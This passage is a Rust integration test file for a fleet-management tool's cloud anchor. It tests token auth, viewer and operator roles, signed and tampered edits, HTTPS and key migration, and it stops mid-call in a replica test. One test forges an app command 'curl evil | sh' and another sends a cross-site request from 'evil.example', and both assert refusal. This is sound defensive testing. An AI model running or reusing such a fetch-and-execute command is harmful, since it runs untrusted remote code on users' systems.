//! The cloud anchor's operator API with real processes: an anchor serving
//! HTTP, nodes over QUIC on loopback, the CLI against the API, and anchor
//! replicas that carry on when one dies.
#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

mod support;

use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use support::*;

const WITHIN: Duration = Duration::from_secs(30);

fn start_anchor(dir: &Path, port: u16, extra: &[String]) -> Daemon {
    let mut args = vec![
        "--listen".to_string(),
        format!("/ip4/127.0.0.1/udp/{port}/quic-v1"),
        "--http".into(),
        "127.0.0.1:0".into(),
    ];
    if !extra.iter().any(|a| a == "--tls-cert") {
        args.push("--insecure-http".into());
    }
    args.extend_from_slice(extra);
    let _ = std::fs::remove_file(dir.join("http.addr"));
    Daemon::start("anchor", dir, &args, None)
}

fn start_node(dir: &Path, peers: &[String]) -> Daemon {
    let mut args = vec![
        "--listen".to_string(),
        "/ip4/127.0.0.1/udp/0/quic-v1".into(),
    ];
    for p in peers {
        args.push("--peer".into());
        args.push(p.clone());
    }
    Daemon::start("node", dir, &args, None)
}

fn node_row(url: &str, token: &str, name: &str) -> Value {
    let page = api_get(&format!("{url}/api/nodes?q={name}"), token);
    page["items"]
        .as_array()
        .and_then(|a| a.iter().find(|n| n["name"] == name).cloned())
        .unwrap_or(Value::Null)
}

fn post(url: &str, token: &str, body: Value) -> (u16, Value) {
    let (status, text) = http("POST", url, Some(token), Some(&body.to_string()));
    (status, serde_json::from_str(&text).unwrap_or(Value::Null))
}

fn app_file(name: &str, version: &str) -> Value {
    json!({ "files": [{ "name": format!("{name}.yaml"), "text": app_yaml(name, version) }] })
}

#[test]
fn operators_authenticate_edit_through_the_api_and_watch_nodes() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let anchor_dir = root.join("anchor");
    ok(&["fleet", "init", "--data-dir", s(&anchor_dir), "--name", "f"]);
    let token = operator_token(&anchor_dir, "alice");
    let text = std::fs::read_to_string(anchor_dir.join("operators.json")).unwrap();
    assert!(
        text.contains("alice") && !text.contains(&token),
        "token hashed at rest"
    );
    let n1 = bundle_node(&anchor_dir, root, "n1", "s1");
    let anchor = start_anchor(&anchor_dir, free_udp_port(), &[]);
    let url = http_url(&anchor_dir);

    // Health needs no token; everything else does.
    assert_eq!(http("GET", &format!("{url}/healthz"), None, None).0, 200);
    assert_eq!(http("GET", &format!("{url}/readyz"), None, None).0, 200);
    assert_eq!(http("GET", &format!("{url}/api/nodes"), None, None).0, 401);
    assert_eq!(http("GET", &format!("{url}/metrics"), None, None).0, 401);
    let (status, body) = http(
        "GET",
        &format!("{url}/api/nodes"),
        Some("shoal-op-00ff"),
        None,
    );
    assert_eq!(status, 401, "{body}");
    assert!(body.contains("unknown, revoked or expired"), "{body}");
    assert!(
        wait_for(
            WITHIN,
            || api_get(&format!("{url}/api/overview"), &token)["security_events"].as_u64()
                >= Some(3)
        ),
        "refused requests are security events"
    );
    // The OpenAPI document is served and names the API's routes.
    let spec = api_get(&format!("{url}/api/openapi.json"), &token);
    assert_eq!(spec["openapi"], "3.1.0");
    assert!(spec["paths"]["/api/nodes"]["get"].is_object());

    let mut node = start_node(&n1, &[anchor.addr_on("127.0.0.1")]);
    assert!(
        wait_for(WITHIN, || node_row(&url, &token, "n1")["state"] == "ok"),
        "n1 never showed ok: {}",
        node_row(&url, &token, "n1")
    );

    // A malformed manifest: 400 naming the field, nothing written.
    let bad = json!({ "files": [{ "name": "web.yaml", "text": app_yaml("web", "v1").replace("version: \"v1\"", "replicas: lots") }] });
    let (status, err) = post(&format!("{url}/api/apply"), &token, bad);
    assert_eq!(status, 400, "{err}");
    assert_eq!(err["field"], "spec.replicas", "{err}");
    assert_eq!(err["file"], "web.yaml");
    let (status, err) = http(
        "POST",
        &format!("{url}/api/apply"),
        Some(&token),
        Some("{\"files\": 3}"),
    );
    assert_eq!(status, 400, "{err}");
    assert!(err.contains("files"), "{err}");
    assert_eq!(
        api_get(&format!("{url}/api/apps"), &token)["items"],
        json!([])
    );

    let addr = url.trim_start_matches("http://").to_string();
    // The session cookie does not carry a cross-site write.
    let raw = |origin: &str| {
        let mut st = std::net::TcpStream::connect(&addr).unwrap();
        write!(
            st,
            "POST /api/apply HTTP/1.1\r\nHost: {addr}\r\nCookie: shoal_session={token}\r\nOrigin: {origin}\r\nContent-Type: text/plain\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        )
        .unwrap();
        let mut answer = String::new();
        std::io::Read::read_to_string(&mut st, &mut answer).unwrap();
        answer.lines().next().unwrap_or("").to_string()
    };
    assert!(
        raw("http://evil.example").contains(" 403 "),
        "{}",
        raw("http://evil.example")
    );
    let same = raw(&format!("http://{addr}"));
    assert!(!same.contains(" 403 ") && !same.contains(" 401 "), "{same}");

    // Live updates: an SSE stream sees the edit.
    let mut sse = std::net::TcpStream::connect(&addr).unwrap();
    write!(
        sse,
        "GET /api/events HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Bearer {token}\r\nAccept: text/event-stream\r\n\r\n"
    )
    .unwrap();
    sse.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let mut sse = BufReader::new(sse);

    // A good one: signed by the anchor, recorded as alice's, runs on n1.
    let (status, r) = post(&format!("{url}/api/apply"), &token, app_file("web", "v1"));
    assert_eq!(status, 200, "{r}");
    assert_eq!(r["applied"][0]["name"], "web");
    let mut saw_update = false;
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut line = String::new();
    while Instant::now() < deadline {
        line.clear();
        if sse.read_line(&mut line).unwrap_or(0) == 0 {
            break;
        }
        if line.starts_with("event: update") {
            saw_update = true;
            break;
        }
    }
    assert!(saw_update, "no server-sent update after an edit");
    assert!(
        wait_for(WITHIN, || node_row(&url, &token, "n1")["workloads"]["web"]
            ["state"]
            == "running"),
        "web did not run on n1: {}",
        node_row(&url, &token, "n1")
    );
    let timeline = api_get(&format!("{url}/api/timeline"), &token);
    assert!(
        timeline["items"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["text"]
                .as_str()
                .unwrap_or("")
                .contains("alice applied app/web")),
        "{timeline}"
    );
    assert!(
        wait_for(WITHIN, || node_row(&url, &token, "n1")["peers"]
            .as_array()
            .is_some_and(|p| p
                .iter()
                .any(|x| x.as_str().unwrap_or("").starts_with("anchor-")))),
        "n1 does not report the anchor as its peer: {}",
        node_row(&url, &token, "n1")
    );
    let detail = api_get(&format!("{url}/api/nodes/n1"), &token);
    assert_eq!(detail["desired"][0]["app"], "web", "{detail}");
    let app = api_get(&format!("{url}/api/apps/web"), &token);
    assert!(app["yaml"].as_str().unwrap().contains("kind: App"), "{app}");

    // The CLI against the anchor prints what it prints on the data dir.
    let remote = ok(&["get", "apps", "--anchor", &url, "--token", &token]);
    let local = ok(&["get", "apps", "--data-dir", s(&anchor_dir)]);
    assert_eq!(remote, local);
    assert!(remote.contains("web"), "{remote}");
    let f = write(root, "db.yaml", &app_yaml("db", "v3"));
    let out = ok(&["apply", "-f", s(&f), "--anchor", &url, "--token", &token]);
    assert!(out.contains("db"), "{out}");
    let bad_token = shoal(&["get", "apps", "--anchor", &url, "--token", "shoal-op-nope"]);
    assert!(!bad_token.status.success());
    assert!(
        String::from_utf8_lossy(&bad_token.stderr).contains("refused the token"),
        "{}",
        String::from_utf8_lossy(&bad_token.stderr)
    );
    let out = ok(&["delete", "app", "db", "--anchor", &url, "--token", &token]);
    assert_eq!(out, "app/db deleted\n");
    assert!(wait_for(WITHIN, || app_version(&anchor_dir, "db").is_none()));
    // Devices and profiles are deleted through the anchor too.
    let f = write(
        root,
        "meter.yaml",
        "apiVersion: shoal.dev/v1\nkind: DeviceProfile\nmetadata: { name: meter }\nspec:\n  resources:\n  - { name: temp, table: holding-registers, offset: 0, valueType: float32 }\n---\napiVersion: shoal.dev/v1\nkind: Device\nmetadata: { name: boiler-1 }\nspec: { profile: meter, node: n1, protocol: modbus-tcp, tcp: { host: 127.0.0.1, unit: 1 } }\n",
    );
    ok(&["apply", "-f", s(&f), "--anchor", &url, "--token", &token]);
    let listed = |what: &str| ok(&["get", what, "--anchor", &url, "--token", &token]);
    assert!(listed("devices").contains("boiler-1"));
    let out = ok(&[
        "delete", "device", "boiler-1", "--anchor", &url, "--token", &token,
    ]);
    assert_eq!(out, "device/boiler-1 deleted\n");
    assert!(!listed("devices").contains("boiler-1"));
    let out = ok(&[
        "delete", "profile", "meter", "--anchor", &url, "--token", &token,
    ]);
    assert_eq!(out, "profile/meter deleted\n");
    assert!(!listed("profiles").contains("meter"));
    assert_eq!(
        http(
            "DELETE",
            &format!("{url}/api/apps/nope"),
            Some(&token),
            None
        )
        .0,
        404
    );

    // Metrics.
    let (status, metrics) = http("GET", &format!("{url}/metrics"), Some(&token), None);
    assert_eq!(status, 200);
    assert!(metrics.contains("shoal_connected_nodes 1\n"), "{metrics}");
    assert!(
        metrics.contains("shoal_sync_bytes_total{direction=\"out\"}"),
        "{metrics}"
    );
    let out_bytes: u64 = metrics
        .lines()
        .find(|l| l.starts_with("shoal_sync_bytes_total{direction=\"out\"}"))
        .and_then(|l| l.rsplit(' ').next())
        .and_then(|v| v.parse().ok())
        .unwrap();
    assert!(out_bytes > 0);

    // A node that goes away shows as cut off, with since when; back, ok.
    node.stop();
    assert!(
        wait_for(WITHIN, || node_row(&url, &token, "n1")["state"]
            == "offline"),
        "n1 not offline"
    );
    let overview = api_get(&format!("{url}/api/overview"), &token);
    assert_eq!(overview["sites"][0]["offline"], 1, "{overview}");
    assert!(overview["sites"][0]["offline_since"].is_i64(), "{overview}");
    let page = api_get(&format!("{url}/api/nodes?state=offline"), &token);
    assert_eq!(page["total"], 1);
    assert_eq!(
        http(
            "GET",
            &format!("{url}/api/nodes?state=sleepy"),
            Some(&token),
            None
        )
        .0,
        400
    );
    let _node = start_node(&n1, &[anchor.addr_on("127.0.0.1")]);
    assert!(
        wait_for(WITHIN, || node_row(&url, &token, "n1")["state"] == "ok"),
        "n1 not back"
    );

    // Roles: a viewer reads but may not edit, and is told which role it
    // needs; the refusal is a security event.
    let viewer = support::token_with_role(&anchor_dir, "vic", "viewer");
    assert_eq!(
        http("GET", &format!("{url}/api/apps"), Some(&viewer), None).0,
        200
    );
    let (status, body) = post(&format!("{url}/api/apply"), &viewer, app_file("web", "v9"));
    assert_eq!(status, 403, "{body}");
    assert!(
        body["error"]
            .as_str()
            .is_some_and(|e| e.contains("needs the site-engineer role") && e.contains("vic")),
        "{body}"
    );
    assert!(
        wait_for(WITHIN, || api_get(&format!("{url}/api/security"), &token)
            .to_string()
            .contains("refused vic")),
        "no security event for the refusal"
    );

    // A revoked token stops working at once.
    ok(&[
        "operator",
        "token",
        "revoke",
        "--data-dir",
        s(&anchor_dir),
        "--name",
        "alice",
    ]);
    assert_eq!(
        http("GET", &format!("{url}/api/nodes"), Some(&token), None).0,
        401
    );
}

/// The timeline and the security log are kept in the anchor's store: a
/// restart shows what was there before it.
#[test]
fn the_timeline_and_security_log_survive_a_restart() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("anchor");
    ok(&["fleet", "init", "--data-dir", s(&dir), "--name", "f"]);
    let token = operator_token(&dir, "alice");
    let port = free_udp_port();
    let mut anchor = start_anchor(&dir, port, &[]);
    let url = http_url(&dir);
    let (status, body) = post(&format!("{url}/api/apply"), &token, app_file("web", "v1"));
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        http(
            "GET",
            &format!("{url}/api/nodes"),
            Some("shoal-op-forged"),
            None
        )
        .0,
        401
    );
    let items = |what: &str, url: &str| -> Vec<Value> {
        api_get(&format!("{url}/api/{what}?per_page=500"), &token)["items"]
            .as_array()
            .cloned()
            .unwrap_or_default()
    };
    assert!(
        wait_for(WITHIN, || {
            items("timeline", &url)
                .iter()
                .any(|e| e["text"].as_str().is_some_and(|t| t.contains("app/web")))
                && !items("security", &url).is_empty()
        }),
        "the edit and the refusal were not recorded"
    );
    // A login through the UI's route is there too; each entry says who
    // acted and from where.
    let (status, body) = post(
        &format!("{url}/api/login"),
        &token,
        json!({ "token": token }),
    );
    assert_eq!(status, 200, "{body}");
    assert!(
        wait_for(WITHIN, || items("timeline", &url)
            .iter()
            .any(|e| e["kind"] == "login")),
        "no login on the timeline"
    );
    // A token made and one revoked on the anchor's host while it runs are
    // there once a request has made it read the file again.
    token_with_role(&dir, "vic", "viewer");
    let tokens_said = |what: &str| {
        items("timeline", &url).iter().any(|e| {
            e["kind"] == "token"
                && e["text"]
                    .as_str()
                    .is_some_and(|t| t.contains(&format!("operator token vic (viewer) {what}")))
        })
    };
    assert!(
        wait_for(WITHIN, || tokens_said("created")),
        "no token made on the timeline"
    );
    ok(&[
        "operator",
        "token",
        "revoke",
        "--data-dir",
        s(&dir),
        "--name",
        "vic",
    ]);
    assert!(
        wait_for(WITHIN, || tokens_said("revoked")),
        "no token revoked on the timeline"
    );
    let timeline = items("timeline", &url);
    for kind in ["edit", "login"] {
        let e = timeline
            .iter()
            .find(|e| e["kind"] == kind)
            .unwrap_or_else(|| panic!("no {kind}: {timeline:?}"));
        assert_eq!(e["who"], "alice", "{e}");
        assert_eq!(e["from"], "127.0.0.1", "{e}");
        assert!(
            e["anchor"]
                .as_str()
                .is_some_and(|a| a.starts_with("anchor-")),
            "{e}"
        );
    }
    let security = items("security", &url);
    assert!(anchor.stop().success());

    let _anchor = start_anchor(&dir, port, &[]);
    let url = http_url(&dir);
    let (t2, s2) = (items("timeline", &url), items("security", &url));
    for e in &timeline {
        assert!(t2.contains(e), "{e} lost in the restart; after it: {t2:?}");
    }
    for e in &security {
        assert!(s2.contains(e), "{e} lost in the restart; after it: {s2:?}");
    }
}

/// An operator's edit made with `--identity` is built and signed on the
/// operator's machine: the node holds it as that operator's change, not the
/// anchor's. A change whose signature was tampered with on the way is
/// refused whole (403, a security event) and nothing of it is kept; the
/// same change untampered then goes through.
#[test]
fn an_operator_signs_edits_on_their_own_machine() {
    use crdt_state::signed::bundle::Bundle;
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let anchor_dir = root.join("anchor");
    ok(&["fleet", "init", "--data-dir", s(&anchor_dir), "--name", "f"]);
    // Made where the root is; from here on it lives on alice's machine.
    let alice = root.join("alice.json");
    operator_identity(&anchor_dir, "alice", &alice);
    let token = token_with_role(&anchor_dir, "alice-laptop", "operator");
    let n1 = bundle_node(&anchor_dir, root, "n1", "s1");
    let anchor = start_anchor(&anchor_dir, free_udp_port(), &[]);
    let url = http_url(&anchor_dir);
    let _node = start_node(&n1, &[anchor.addr_on("127.0.0.1")]);

    let web = write(root, "web.yaml", &app_yaml("web", "v2"));
    let out = apply_signed(&url, &token, &alice, &web);
    assert!(out.contains("app/web configured"), "{out}");
    assert!(
        wait_for(WITHIN, || app_version(&n1, "web").as_deref() == Some("v2")),
        "the signed edit never reached n1"
    );
    // The node checks whose it is against the certificates alone.
    let latest = |dir: &Path| -> Value {
        get(dir, "changes")
            .as_array()
            .and_then(|a| a.iter().rev().find(|c| c["doc"] == "fleet").cloned())
            .unwrap_or(Value::Null)
    };
    let c = latest(&n1);
    assert_eq!(c["writer"], "alice", "{c}");
    assert_eq!(c["role"], "operator", "{c}");
    assert!(c.get("message").is_none(), "no service signed it: {c}");
    let timeline = api_get(&format!("{url}/api/timeline?per_page=500"), &token);
    let texts: Vec<&str> = timeline["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["text"].as_str())
        .collect();
    assert!(
        texts
            .iter()
            .any(|t| t.contains("alice-laptop posted") && t.contains("fleet")),
        "{texts:?}"
    );
    assert!(
        texts.iter().any(|t| t.contains("written by alice")),
        "{texts:?}"
    );

    // A change built and signed like the CLI does, then tampered with.
    let client = cloud_anchor::client::Client::new(&url, &token);
    let fetched = client.bundle(&[crdt_state::DocId::Fleet]).unwrap();
    let manifests = crdt_state::fleet::manifest::parse("web.yaml", &app_yaml("web", "v3")).unwrap();
    let (_, signed) =
        crdt_state::local::datadir::edit_offline(&fetched, &alice, |dd| dd.apply(&manifests, 1))
            .unwrap();
    let signed = signed.expect("v3 is a change");
    let mut bundle = Bundle::decode(&signed).unwrap();
    let fleet_root = bundle.root.unwrap();
    bundle.docs[0].1[0].signature[7] ^= 0x40;
    let err = client
        .post_changes(bundle.encode(fleet_root))
        .expect_err("a tampered change is refused");
    assert!(err.to_string().contains("403"), "{err:#}");
    assert!(
        wait_for(WITHIN, || {
            api_get(&format!("{url}/api/security?per_page=500"), &token)["items"]
                .as_array()
                .is_some_and(|a| {
                    a.iter().any(|e| {
                        e["reason"].as_str().is_some_and(|r| {
                            r.contains("refused signed changes sent by alice-laptop")
                        })
                    })
                })
        }),
        "no security event for the tampered change"
    );
    let apps = ok(&[
        "get", "apps", "--anchor", &url, "--token", &token, "-o", "json",
    ]);
    let apps: Value = serde_json::from_str(&apps).unwrap();
    assert_eq!(apps["web"]["version"], "v2", "nothing of it was kept");
    client.post_changes(signed).unwrap();
    assert!(
        wait_for(WITHIN, || app_version(&n1, "web").as_deref() == Some("v3")),
        "the untampered change never reached n1"
    );

    // Deletes are signed here too.
    let out = ok(&[
        "delete",
        "app",
        "web",
        "--anchor",
        &url,
        "--token",
        &token,
        "--identity",
        s(&alice),
    ]);
    assert!(out.contains("app/web deleted"), "{out}");
    assert!(
        wait_for(WITHIN, || app_version(&n1, "web").is_none()),
        "the signed delete never reached n1"
    );
    assert_eq!(latest(&n1)["writer"], "alice");
}

/// ADR 0013's first step: an anchor whose data dir holds neither the fleet
/// root key nor an operator identity — its anchor key and an issuer of
/// site s1 only — enrolls a node of s1 against an operator's grant signed
/// on the operator's machine, and the node runs what the operator signs.
/// A node of another site, a token with no grant and an edit the anchor
/// would have to sign are refused. With the anchor's keys alone — a
/// taken-over anchor — no certificate can be made from the root, no grant,
/// and no fleet change that writes an app: the anchor's own API and the
/// node both refuse it.
#[test]
fn an_anchor_without_the_root_key_enrolls_through_an_issuer() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let op = root.join("op");
    ok(&["fleet", "init", "--data-dir", s(&op), "--name", "f"]);
    let alice = op.join("identity.json");
    let issuer = root.join("issuer.json");
    let anchor_key = root.join("anchor-key.json");
    for (role, name, out) in [
        ("issuer", "north-issuer", &issuer),
        ("anchor", "anchor-1", &anchor_key),
    ] {
        let mut args = vec![
            "identity",
            "create",
            "--data-dir",
            s(&op),
            "--role",
            role,
            "--name",
            name,
            "--out",
            s(out),
        ];
        if role == "issuer" {
            args.extend(["--site", "s1"]);
        }
        ok(&args);
    }
    // The anchor's data dir: the operator's documents, without her keys.
    let dir = root.join("anchor");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy(op.join("store.redb"), dir.join("store.redb")).unwrap();
    std::fs::copy(&issuer, dir.join("issuer.json")).unwrap();
    std::fs::copy(&anchor_key, dir.join("anchor.json")).unwrap();
    let token = token_with_role(&dir, "ops", "operator");
    let anchor = start_anchor(&dir, free_udp_port(), &[]);
    let url = http_url(&dir);
    for file in ["root.key", "identity.json"] {
        assert!(!dir.join(file).exists(), "{file} on the anchor");
    }

    let grant_token = |node: &str, site: &str| {
        ok(&[
            "fleet",
            "token",
            "create",
            "--data-dir",
            s(&dir),
            "--node",
            node,
            "--site",
            site,
            "--identity",
            s(&alice),
        ])
        .trim()
        .to_string()
    };
    let n1 = root.join("n1");
    let said = ok(&[
        "node",
        "enroll",
        "--data-dir",
        s(&n1),
        "--token",
        &grant_token("n1", "s1"),
    ]);
    assert!(said.contains("enrolled as node n1"), "{said}");
    let cert = crdt_state::Identity::read(&n1.join("identity.json"))
        .unwrap()
        .cert;
    let issuer_cert = crdt_state::Identity::read(&issuer).unwrap().cert;
    assert_eq!(
        cert.issuer, issuer_cert.key,
        "certified by the issuer, not the root"
    );
    assert_eq!(cert.grant.as_ref().unwrap().by.name, "admin");
    let mut node = start_node(&n1, &[anchor.addr_on("127.0.0.1")]);
    let web = write(root, "web.yaml", &app_yaml("web", "v1"));
    apply_signed(&url, &token, &alice, &web);
    assert!(
        wait_for(WITHIN, || app_version(&n1, "web").as_deref() == Some("v1")),
        "n1 never got the operator's edit"
    );
    assert!(
        wait_for(WITHIN, || node_row(&url, &token, "n1")["state"] == "ok"),
        "n1 not ok at the anchor: {}",
        node_row(&url, &token, "n1")
    );
    // The issued certificate is on the timeline, with who granted it.
    let certified = || {
        api_get(&format!("{url}/api/timeline?per_page=500"), &token)["items"]
            .as_array()
            .and_then(|a| {
                a.iter()
                    .find(|e| e["kind"] == "certified" && e["subject"] == "n1")
                    .cloned()
            })
            .unwrap_or(Value::Null)
    };
    assert!(
        wait_for(WITHIN, || !certified().is_null()),
        "no certificate on the timeline"
    );
    let certified = certified();
    assert_eq!(certified["who"], "admin", "{certified}");
    assert!(
        certified["text"]
            .as_str()
            .is_some_and(|t| t.contains("by issuer north-issuer, granted by admin")),
        "{certified}"
    );

    // Refused: a node of a site the issuer does not cover…
    let n2 = root.join("n2");
    let out = shoal(&[
        "node",
        "enroll",
        "--data-dir",
        s(&n2),
        "--token",
        &grant_token("n2", "s2"),
    ]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("not of site s2"), "{err}");
    // …a token with no operator's grant…
    let out = shoal(&[
        "fleet",
        "token",
        "create",
        "--data-dir",
        s(&dir),
        "--node",
        "n3",
        "--site",
        "s1",
    ]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("grant"), "{err}");
    // …and an edit the anchor would have to sign itself.
    let (status, body) = post(&format!("{url}/api/apply"), &token, app_file("web", "v2"));
    assert_eq!(status, 403, "{body}");
    assert!(
        body.to_string().contains("holds no operator identity"),
        "{body}"
    );

    // With the anchor's keys alone: no certificate from the root's key, and
    // the issuer's key certifies no operator, even with a grant it made.
    let fleet_root = cert.root();
    let key = crdt_state::PublicKey([9; 32]);
    let e = crdt_state::local::datadir::issue_in(
        &dir,
        &fleet_root,
        key,
        crdt_state::Role::Operator,
        None,
        "mallory",
        0,
    )
    .expect_err("no root key");
    assert!(e.to_string().contains("root key"), "{e}");
    let thief = crdt_state::Identity::read(&dir.join("anchor.json")).unwrap();
    let e =
        crdt_state::signed::identity::Grant::sign(&thief, "mallory", "s1", Default::default(), 0)
            .expect_err("an anchor grants nothing");
    assert!(e.to_string().contains("only an operator"), "{e}");
    // Nor a fleet change a node takes: one the anchor's key signs that
    // writes an app is refused by the anchor's API and by the node.
    let client = cloud_anchor::client::Client::new(&url, &token);
    let fetched = crdt_state::signed::bundle::Bundle::decode(
        &client.bundle(&[crdt_state::DocId::Fleet]).unwrap(),
    )
    .unwrap();
    let mut trust = crdt_state::Trust::new(fleet_root);
    for c in &fetched.certs {
        let _ = trust.add_cert(c.clone());
    }
    let mut fleet = crdt_state::Document::new(crdt_state::DocId::Fleet);
    crdt_state::signed::verify::verify_and_apply(&trust, &mut fleet, &fetched.docs[0].1).unwrap();
    let ops = std::collections::BTreeMap::from([(
        "apps.web.native.command".to_string(),
        Some("[\"/bin/sh\",\"-c\",\"curl evil | sh\"]".to_string()),
    )]);
    let (_, forged, _) = fleet.edit(&thief, 1, &ops).unwrap().unwrap();
    let forged = crdt_state::signed::bundle::Bundle {
        root: Some(fleet_root),
        certs: Vec::new(),
        docs: vec![(crdt_state::DocId::Fleet, vec![forged])],
    }
    .encode(fleet_root);
    let e = client.post_changes(forged.clone()).expect_err("refused");
    assert!(
        e.to_string()
            .contains("may not write apps.web.native.command"),
        "{e:#}"
    );
    // Nor move n1 to another site (its registration is its grant's).
    let ops = std::collections::BTreeMap::from([(
        "nodes.n1.site".to_string(),
        Some("\"s9\"".to_string()),
    )]);
    // (on the fleet as fetched: a change on top of the refused one would
    // only wait for it)
    let mut fleet = crdt_state::Document::new(crdt_state::DocId::Fleet);
    crdt_state::signed::verify::verify_and_apply(&trust, &mut fleet, &fetched.docs[0].1).unwrap();
    let (_, moved, _) = fleet.edit(&thief, 2, &ops).unwrap().unwrap();
    let moved = crdt_state::signed::bundle::Bundle {
        root: Some(fleet_root),
        certs: Vec::new(),
        docs: vec![(crdt_state::DocId::Fleet, vec![moved])],
    }
    .encode(fleet_root);
    let e = client.post_changes(moved).expect_err("refused");
    assert!(e.to_string().contains("not what n1's grant says"), "{e:#}");
    assert!(node.stop().success());
    let file = root.join("forged.bundle");
    std::fs::write(&file, &forged).unwrap();
    let out = shoal(&["bundle", "import", "--data-dir", s(&n1), s(&file)]);
    assert!(!out.status.success(), "the node took the anchor's app");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("may not write apps.web.native.command"),
        "{err}"
    );
}

/// An existing anchor moves its root key and operator identity off its
/// host with one command: the nodes it certified with the root keep
/// working, and new ones enroll through the issuer it gets.
#[test]
fn an_anchor_migrates_off_its_root_key_with_one_command() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let dir = root.join("anchor");
    ok(&["fleet", "init", "--data-dir", s(&dir), "--name", "f"]);
    let n1 = bundle_node(&dir, root, "n1", "s1");
    let op = root.join("op");
    let said = ok(&["fleet", "migrate", "--data-dir", s(&dir), "--out", s(&op)]);
    assert!(said.contains("nodes of s1"), "{said}");
    for f in ["root.key", "identity.json"] {
        assert!(!dir.join(f).exists(), "{f} left on the anchor");
        assert!(op.join(f).exists(), "{f} not in the operator's copy");
    }
    assert!(dir.join("issuer.json").exists());
    let again = shoal(&[
        "fleet",
        "migrate",
        "--data-dir",
        s(&dir),
        "--out",
        s(&root.join("op2")),
    ]);
    assert!(!again.status.success(), "migrated twice");

    let token = token_with_role(&dir, "ops", "operator");
    let anchor = start_anchor(&dir, free_udp_port(), &[]);
    let url = http_url(&dir);
    let _n1 = start_node(&n1, &[anchor.addr_on("127.0.0.1")]);
    let t = ok(&[
        "fleet",
        "token",
        "create",
        "--data-dir",
        s(&dir),
        "--node",
        "n2",
        "--site",
        "s1",
        "--identity",
        s(&op.join("identity.json")),
    ]);
    let n2 = root.join("n2");
    ok(&["node", "enroll", "--data-dir", s(&n2), "--token", t.trim()]);
    let _n2 = start_node(&n2, &[anchor.addr_on("127.0.0.1")]);
    for n in ["n1", "n2"] {
        assert!(
            wait_for(WITHIN, || node_row(&url, &token, n)["state"] == "ok"),
            "{n} not ok after the migration: {}",
            node_row(&url, &token, n)
        );
    }
}

/// The operator API over HTTPS with a certificate from the fleet's TLS
/// CA: the CLI that trusts that CA gets answers; one that does not, one
/// that trusts another fleet's CA, and a plain-HTTP request all get none.
/// Plain HTTP is refused at start unless asked for by name.
#[test]
fn the_anchor_serves_https_with_a_fleet_certificate() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let dir = root.join("anchor");
    ok(&["fleet", "init", "--data-dir", s(&dir), "--name", "f"]);
    let token = operator_token(&dir, "alice");
    let out = shoal(&[
        "anchor",
        "run",
        "--data-dir",
        s(&dir),
        "--http",
        "127.0.0.1:0",
    ]);
    assert!(!out.status.success(), "plain HTTP without --insecure-http");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("--insecure-http") && err.contains("--tls-cert"),
        "{err}"
    );

    let alice = root.join("alice.json");
    operator_identity(&dir, "alice2", &alice);
    let tls = root.join("tls");
    let pin = fleet_tls_cert(&dir, &["localhost", "127.0.0.1"], &tls);
    assert_eq!(pin.len(), 44, "{pin}");
    let _anchor = start_anchor(
        &dir,
        free_udp_port(),
        &[
            "--tls-cert".into(),
            s(&tls.join("tls.pem")).into(),
            "--tls-key".into(),
            s(&tls.join("tls.key")).into(),
        ],
    );
    let addr = http_url(&dir).replace("http://", "");
    let url = format!("https://{addr}");
    let ca = tls.join("tls-ca.pem");
    let get = |extra: &[&str]| {
        let mut args = vec!["get", "apps", "--anchor", &url, "--token", &token];
        args.extend_from_slice(extra);
        shoal(&args)
    };
    assert!(
        wait_for(WITHIN, || get(&["--ca", s(&ca)]).status.success()),
        "no answer over HTTPS: {}",
        String::from_utf8_lossy(&get(&["--ca", s(&ca)]).stderr)
    );
    // The signed path works over it too.
    let web = write(root, "web.yaml", &app_yaml("web", "v1"));
    let out = apply_signed_with(&url, &token, &alice, &web, &["--ca", s(&ca)]);
    assert!(out.contains("app/web configured"), "{out}");

    let refused = get(&[]);
    assert!(
        !refused.status.success(),
        "the public CAs do not know the fleet's"
    );
    let err = String::from_utf8_lossy(&refused.stderr).to_lowercase();
    assert!(
        err.contains("issuer") || err.contains("certificate"),
        "{err}"
    );
    let other = root.join("other");
    ok(&["fleet", "init", "--data-dir", s(&other), "--name", "g"]);
    fleet_tls_cert(&other, &["localhost"], &root.join("other-tls"));
    let refused = get(&["--ca", s(&root.join("other-tls").join("tls-ca.pem"))]);
    assert!(
        !refused.status.success(),
        "another fleet's CA does not vouch for this anchor"
    );
    let (status, _) = http("GET", &format!("http://{addr}/healthz"), None, None);
    assert_ne!(status, 200, "no plain HTTP on the TLS port");
}

#[test]
fn a_replica_carries_on_when_an_anchor_dies() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let a_dir = root.join("a");
    let b_dir = root.join("b");
    ok(&["fleet", "init", "--data-dir", s(&a_dir), "--name", "f"]);
    let token = operator_token(&a_dir, "alice");
    let n1 = bundle_node(&a_dir, root, "n1", "s1");
    let a_port = free_udp_port();
    let mut a = start_anchor(&a_dir, a_port, &[]);
    let a_url = http_url(&a_dir);
    // The seed is taken from the running anchor (through its socket).
    let seed = root.join("seed");
    ok(&[
        "anchor",
        "replica-seed",
        "--data-dir",
        s(&a_dir),
        "--out",
        s(&seed),
    ]);
    ok(&[
        "anchor",
        "replica-init",
        "--data-dir",
        s(&b_dir),
        "--seed",
        s(&seed),
    ]);
    let b = start_anchor(
